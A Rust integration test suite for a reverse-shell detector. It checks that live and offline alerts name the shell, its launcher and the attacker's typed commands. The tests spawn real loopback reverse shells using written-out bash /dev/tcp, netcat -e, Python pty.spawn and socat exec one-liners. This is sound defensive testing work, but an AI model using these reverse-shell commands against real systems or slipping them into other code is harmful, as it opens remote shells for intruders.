//! Which process an alert names, and the commands typed into it. Each case starts a real
//! reverse shell on loopback against this test acting as the attacker's listener, which
//! types `id`, `uname -a`, `cat /etc/hostname` and a few more. At the same time:
//! - a live sensor with its local agent (`sensor --interface lo --local-agent`) watches;
//! - `tcpdump` records the session and `agent --output` records an inventory, which
//!   `replay --inventory` then joins offline.
//!
//! Both the live and the offline alert must name the shell (not a connector, not a
//! command run in it, not whatever exec'd last), its launcher among its parents, and the
//! typed commands in order. Needs root (live capture, the proc connector); set
//! SHELLSIGHT_SKIP_PRIVILEGED=1 to skip. Shells get a HOME of their own (never /root).

mod agent_support;
mod common;

use agent_support::{privileged, require_tool, Group};
use common::{bin, json_lines, replay};
use serde_json::Value;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::Mutex;
use std::time::Duration;

/// The cases run one at a time: each is a human-paced session whose timing the detector
/// judges, and whose short-lived commands the agents must catch.
static ONE_AT_A_TIME: Mutex<()> = Mutex::new(());

/// What the attacker types, with think time before each line.
const TYPED: &[(&str, u64)] = &[
    ("id", 1500),
    ("whoami", 2100),
    ("uname -a", 1300),
    ("cat /etc/hostname", 2700),
    ("pwd", 1600),
    ("ls /", 2200),
];
/// The commands every alert must list, in this order.
const MUST_LIST: &[&[&str]] = &[&["id"], &["uname", "-a"], &["cat", "/etc/hostname"]];
/// Sensor and agent run this long: the session (about 14 s) fits with room to spare.
const RUN_SECS: &str = "24";

struct Case {
    dir: PathBuf,
    home: PathBuf,
}

impl Case {
    fn new(name: &str) -> Case {
        let dir = std::env::temp_dir().join(format!("ss-attr-{name}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        let home = dir.join("home");
        std::fs::create_dir_all(&home).unwrap();
        Case { dir, home }
    }
}

impl Drop for Case {
    fn drop(&mut self) {
        if std::thread::panicking() {
            eprintln!("outputs kept in {}", self.dir.display());
        } else {
            let _ = std::fs::remove_dir_all(&self.dir);
        }
    }
}

/// The attacker at the listener: accepts the shell, types `TYPED`, then `exit`.
fn attacker(listener: TcpListener) {
    listener.set_nonblocking(false).unwrap();
    let (mut s, _) = listener.accept().unwrap();
    s.set_read_timeout(Some(Duration::from_millis(300))).unwrap();
    let mut sink = [0u8; 4096];
    for (line, think_ms) in TYPED {
        std::thread::sleep(Duration::from_millis(*think_ms));
        s.write_all(format!("{line}\n").as_bytes()).unwrap();
        let _ = s.read(&mut sink);
    }
    std::thread::sleep(Duration::from_millis(800));
    let _ = s.write_all(b"exit\n");
    std::thread::sleep(Duration::from_millis(300));
}

struct Outcome {
    /// Alerts about the shell's session from the live sensor, in order.
    live: Vec<Value>,
    /// The same from `replay --inventory`.
    offline: Vec<Value>,
}

fn spawn_quiet(cmd: &mut Command) -> Child {
    cmd.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).spawn().expect("spawn")
}

/// How the live sensor learns of the host's processes.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Link {
    /// `sensor --local-agent`, and a recording `agent --output` for the offline join.
    Local,
    /// `agent --connect` streaming to `sensor --agent-listen` (no offline part).
    Stream,
}

/// Runs one case: the watchers, then the shell `launch(port)` starts, then the attacker.
fn run_case(case: &Case, launch: impl FnOnce(u16) -> Command) -> Outcome {
    run_case_with(case, Link::Local, launch)
}

fn run_case_with(case: &Case, link: Link, launch: impl FnOnce(u16) -> Command) -> Outcome {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let filter = format!("tcp port {port}");
    let (pcap, inventory, alerts) =
        (case.dir.join("cap.pcap"), case.dir.join("inventory.jsonl"), case.dir.join("alerts.jsonl"));
    let mut tcpdump = spawn_quiet(Command::new("tcpdump").args([
        "-i",
        "lo",
        "-U",
        "-s",
        "512",
        "-w",
        pcap.to_str().unwrap(),
        &filter,
    ]));
    let token = case.dir.join("token");
    std::fs::write(&token, "a-token-for-the-attribution-tests\n").unwrap();
    std::fs::set_permissions(&token, std::os::unix::fs::PermissionsExt::from_mode(0o600)).unwrap();
    let agent_addr = {
        let probe = TcpListener::bind("127.0.0.1:0").unwrap();
        probe.local_addr().unwrap().to_string()
    };
    let mut agent = Command::new(bin());
    agent.args(["agent", "--interval", "500ms", "--duration", RUN_SECS]);
    let mut sensor = Command::new(bin());
    sensor.args(["sensor", "--interface", "lo", "--bpf", &filter, "--duration", RUN_SECS]);
    match link {
        Link::Local => {
            agent.args(["--output", inventory.to_str().unwrap()]);
            sensor.arg("--local-agent");
        }
        Link::Stream => {
            agent.args(["--connect", &agent_addr, "--token-file", token.to_str().unwrap()]);
            sensor.args(["--agent-listen", &agent_addr, "--token-file", token.to_str().unwrap()]);
        }
    }
    let sensor = sensor
        .args(["--format", "json", "-o", alerts.to_str().unwrap()])
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    std::thread::sleep(Duration::from_millis(1000));
    let mut agent = spawn_quiet(&mut agent);
    std::thread::sleep(Duration::from_millis(1000));
    let typist = std::thread::spawn(move || attacker(listener));
    let shell = Group::spawn(&mut launch(port));
    typist.join().expect("the attacker's session");
    std::thread::sleep(Duration::from_millis(500));
    drop(shell);
    let _ = agent.wait();
    let out = sensor.wait_with_output().unwrap();
    assert!(out.status.success(), "sensor failed: {}", String::from_utf8_lossy(&out.stderr));
    let _ = Command::new("kill").args(["-INT", &tcpdump.id().to_string()]).status();
    let _ = tcpdump.wait();

    let about = |records: Vec<Value>| -> Vec<Value> {
        records
            .into_iter()
            .filter(|r| {
                r["event"]["kind"] == "alert" && r["destination"]["port"].as_u64() == Some(port.into())
            })
            .collect()
    };
    let live = about(json_lines(&std::fs::read(&alerts).unwrap_or_default()));
    let offline = match link {
        Link::Local => about(replay(&[&pcap], &["--inventory", inventory.to_str().unwrap()])),
        Link::Stream => Vec::new(),
    };
    Outcome { live, offline }
}

/// The last record of the session that names a process: it supersedes the others.
fn attributed<'a>(alerts: &'a [Value], how: &str) -> &'a Value {
    alerts.iter().rev().find(|a| a["process"].is_object()).unwrap_or_else(|| {
        panic!("{how}: no alert names a process: {}", serde_json::to_string_pretty(alerts).unwrap())
    })
}

fn str_at<'v>(v: &'v Value, path: &[&str]) -> &'v str {
    path.iter().fold(v, |v, k| &v[*k]).as_str().unwrap_or("")
}

fn ancestry(a: &Value) -> Vec<String> {
    a["shellsight"]["process"]["ancestry"]
        .as_array()
        .into_iter()
        .flatten()
        .map(|p| p["name"].as_str().unwrap_or("").to_string())
        .collect()
}

/// The typed commands that appear in `shellsight.process.commands` come in order, each
/// with its time, pid and user. Returns the ones missing.
fn check_commands(a: &Value, how: &str) -> Vec<&'static [&'static str]> {
    let list = a["shellsight"]["process"]["commands"].as_array().cloned().unwrap_or_default();
    let argvs: Vec<Vec<String>> = list
        .iter()
        .map(|c| {
            c["args"].as_array().into_iter().flatten().filter_map(|x| x.as_str().map(String::from)).collect()
        })
        .collect();
    // A command that exited before the agent read its argv is listed by name alone.
    let names: Vec<&str> = list.iter().map(|c| c["name"].as_str().unwrap_or("")).collect();
    let matches = |i: usize, want: &[&str]| argvs[i] == want || (argvs[i].is_empty() && names[i] == want[0]);
    let mut from = 0;
    let mut missing = Vec::new();
    for want in MUST_LIST {
        let at = (from..argvs.len()).find(|&i| matches(i, want));
        let Some(at) = at else {
            eprintln!("{how}: {want:?} missing from shellsight.process.commands (after #{from}): {argvs:?}");
            missing.push(*want);
            continue;
        };
        let c = &list[at];
        assert!(c["pid"].as_i64().unwrap_or(0) > 0, "{how}: command without pid: {c}");
        assert!(!str_at(c, &["@timestamp"]).is_empty(), "{how}: command without time: {c}");
        assert_eq!(str_at(c, &["user", "id"]), "0", "{how}: command's user: {c}");
        from = at + 1;
    }
    let times: Vec<&str> = list.iter().map(|c| str_at(c, &["@timestamp"])).collect();
    assert!(times.windows(2).all(|w| w[0] <= w[1]), "{how}: commands out of time order: {times:?}");
    missing
}

/// Runs `check` on the live and the offline alert; it returns the typed commands its
/// alert does not list. Two agents watch each case at once, and a command that exits
/// within a millisecond on a loaded machine can escape one of them (its argv and its exit
/// report both come too late). So each command must be listed by at least one agent, and
/// neither may miss more than one.
fn both(o: &Outcome, mut check: impl FnMut(&Value, &str) -> Vec<&'static [&'static str]>) {
    let live = check(attributed(&o.live, "live"), "live");
    let offline = check(attributed(&o.offline, "offline"), "offline");
    assert!(live.len() <= 1 && offline.len() <= 1, "commands missing: live {live:?}, offline {offline:?}");
    let by_neither: Vec<_> = live.iter().filter(|c| offline.contains(c)).collect();
    assert!(by_neither.is_empty(), "listed by neither agent: {by_neither:?}");
}

fn reasons(a: &Value) -> Vec<String> {
    a["shellsight"]["reasons"]
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(|r| r.as_str().map(String::from))
        .collect()
}

fn write_executable(path: &Path, text: &str) {
    use std::os::unix::fs::PermissionsExt;
    std::fs::write(path, text).unwrap();
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
}

#[test]
fn a_bashrc_helper_is_not_the_shell_and_typed_commands_are_listed() {
    if !privileged() {
        return;
    }
    require_tool("python3", "python3");
    require_tool("tcpdump", "tcpdump");
    let _one = ONE_AT_A_TIME.lock().unwrap_or_else(|e| e.into_inner());
    let case = Case::new("bashrc");
    // What pyenv, conda and rvm do: the interactive shell's rc file runs a helper script
    // (a child that inherits the shell's stdio, alive while the agents rescan).
    let helper = case.home.join("helper-rehash");
    write_executable(&helper, "#!/bin/bash\nsleep 3\n");
    std::fs::write(case.home.join(".bashrc"), format!("bash {}\n", helper.display())).unwrap();
    let home = case.home.clone();
    let o = run_case(&case, |port| {
        let code = format!(
            "import subprocess; subprocess.call(['bash', '-c', 'bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1'])"
        );
        let mut c = Command::new("python3");
        c.args(["-c", &code]).env("HOME", &home).current_dir(&home);
        c
    });
    both(&o, |a, how| {
        assert_eq!(str_at(a, &["process", "name"]), "bash", "{how}: {a}");
        assert_eq!(
            a["process"]["args"],
            serde_json::json!(["bash", "-i"]),
            "{how}: not the shell itself: {a}"
        );
        // Its real parent is the `bash -c` that set up the redirection; the launcher
        // is the next one up.
        let parents = ancestry(a);
        assert_eq!(str_at(a, &["process", "parent", "name"]), "bash", "{how}: parents {parents:?}");
        assert!(
            str_at(a, &["process", "parent", "command_line"]).contains("/dev/tcp/"),
            "{how}: parent: {}",
            a["process"]["parent"]
        );
        assert!(parents.get(1).is_some_and(|p| p.starts_with("python")), "{how}: launcher in {parents:?}");
        assert_eq!(str_at(a, &["shellsight", "process", "wiring"]), "stdio-socket", "{how}");
        assert!(reasons(a).iter().any(|r| r == "stdio-socket"), "{how}: {:?}", reasons(a));
        // The launcher was started as a session (and group) leader; `bash -i` without a
        // terminal has no job control, so it stays in both.
        for leader in ["group_leader", "session_leader"] {
            let l = &a["process"][leader];
            assert!(l["pid"].as_i64().is_some_and(|p| p > 0), "{how}: {leader}: {a}");
            assert!(str_at(l, &["name"]).starts_with("python"), "{how}: {leader}: {l}");
        }
        check_commands(a, how)
    });
}

#[test]
fn nc_exec_names_the_shell_and_nc_as_connector() {
    if !privileged() {
        return;
    }
    require_tool("nc.traditional", "netcat-traditional");
    require_tool("tcpdump", "tcpdump");
    let _one = ONE_AT_A_TIME.lock().unwrap_or_else(|e| e.into_inner());
    let case = Case::new("nc");
    let home = case.home.clone();
    let o = run_case(&case, |port| {
        let mut c = Command::new("bash");
        c.args(["-c", &format!("nc.traditional -e /bin/sh 127.0.0.1 {port}; true")])
            .env("HOME", &home)
            .current_dir(&home);
        c
    });
    // nc execs the shell about a millisecond after its own exec. An agent that reads nc's
    // argv too late (a loaded 2-core machine, two agents racing here) sees only `sh`, so
    // the connector is required from at least one of the two agents, and must be right
    // wherever it is given.
    let mut named_by = Vec::new();
    both(&o, |a, how| {
        assert_eq!(str_at(a, &["process", "name"]), "sh", "{how}: {a}");
        let connector = &a["shellsight"]["process"]["connector"];
        if connector.is_null() {
            eprintln!("{how}: the agent missed nc's image before the exec (no connector)");
        } else {
            assert!(str_at(connector, &["name"]).starts_with("nc"), "{how}: connector: {connector}");
            assert_eq!(
                str_at(connector, &["role"]),
                "exec",
                "{how}: nc execs the shell in place: {connector}"
            );
            named_by.push(how.to_string());
        }
        assert_eq!(str_at(a, &["process", "parent", "name"]), "bash", "{how}: the wrapper is the parent");
        check_commands(a, how)
    });
    assert!(!named_by.is_empty(), "neither agent named nc as the connector");
}

#[test]
fn python_pty_spawn_names_the_shell_on_the_pty() {
    if !privileged() {
        return;
    }
    require_tool("python3", "python3");
    require_tool("tcpdump", "tcpdump");
    let _one = ONE_AT_A_TIME.lock().unwrap_or_else(|e| e.into_inner());
    let case = Case::new("pty");
    let home = case.home.clone();
    let o = run_case(&case, |port| {
        let code = format!(
            "import socket,os,pty;s=socket.socket();s.connect((\"127.0.0.1\",{port}));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")"
        );
        let mut c = Command::new("python3");
        c.args(["-c", &code]).env("HOME", &home).current_dir(&home);
        c
    });
    both(&o, |a, how| check_pty_shell(a, how, "sh", "python"));
}

#[test]
fn socat_exec_pty_names_the_shell_on_the_pty() {
    if !privileged() {
        return;
    }
    require_tool("socat", "socat");
    require_tool("tcpdump", "tcpdump");
    let _one = ONE_AT_A_TIME.lock().unwrap_or_else(|e| e.into_inner());
    let case = Case::new("socat");
    let home = case.home.clone();
    let o = run_case(&case, |port| {
        let mut c = Command::new("socat");
        c.args([format!("tcp:127.0.0.1:{port}"), "exec:bash -i,pty,stderr,setsid,sane".to_string()])
            .env("HOME", &home)
            .current_dir(&home);
        c
    });
    both(&o, |a, how| check_pty_shell(a, how, "bash", "socat"));
}

fn check_pty_shell(a: &Value, how: &str, shell: &str, driver: &str) -> Vec<&'static [&'static str]> {
    assert_eq!(str_at(a, &["process", "name"]), shell, "{how}: {a}");
    let p = &a["shellsight"]["process"];
    assert_eq!(str_at(p, &["wiring"]), "stdio-pty-of-socket", "{how}: {p}");
    assert!(reasons(a).iter().any(|r| r == "stdio-pty-of-socket"), "{how}: {:?}", reasons(a));
    assert_eq!(str_at(a, &["shellsight", "tier"]), "high", "{how}");
    let pty = str_at(p, &["pty", "name"]);
    assert!(pty.starts_with("pts/"), "{how}: shellsight.process.pty: {p}");
    assert_eq!(str_at(a, &["process", "tty", "name"]), pty, "{how}: process.tty");
    let connector = &p["connector"];
    assert!(str_at(connector, &["name"]).starts_with(driver), "{how}: connector: {connector}");
    assert_eq!(str_at(connector, &["role"]), "pty-master", "{how}: {connector}");
    assert_eq!(connector["pid"], p["pty"]["master_pid"], "{how}");
    // The real parent is the driver that forked the shell.
    assert_eq!(a["process"]["parent"]["pid"], connector["pid"], "{how}: process.parent");
    check_commands(a, how)
}

#[test]
fn commands_reach_a_sensor_through_an_agent_stream() {
    if !privileged() {
        return;
    }
    require_tool("tcpdump", "tcpdump");
    let _one = ONE_AT_A_TIME.lock().unwrap_or_else(|e| e.into_inner());
    let case = Case::new("stream");
    let home = case.home.clone();
    let o = run_case_with(&case, Link::Stream, |port| {
        let mut c = Command::new("bash");
        c.args(["-c", &format!("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1")])
            .env("HOME", &home)
            .current_dir(&home);
        c
    });
    let a = attributed(&o.live, "agent stream");
    assert_eq!(a["process"]["args"], serde_json::json!(["bash", "-i"]), "{a}");
    let missing = check_commands(a, "agent stream");
    assert!(missing.is_empty(), "agent stream: commands missing: {missing:?}");
}
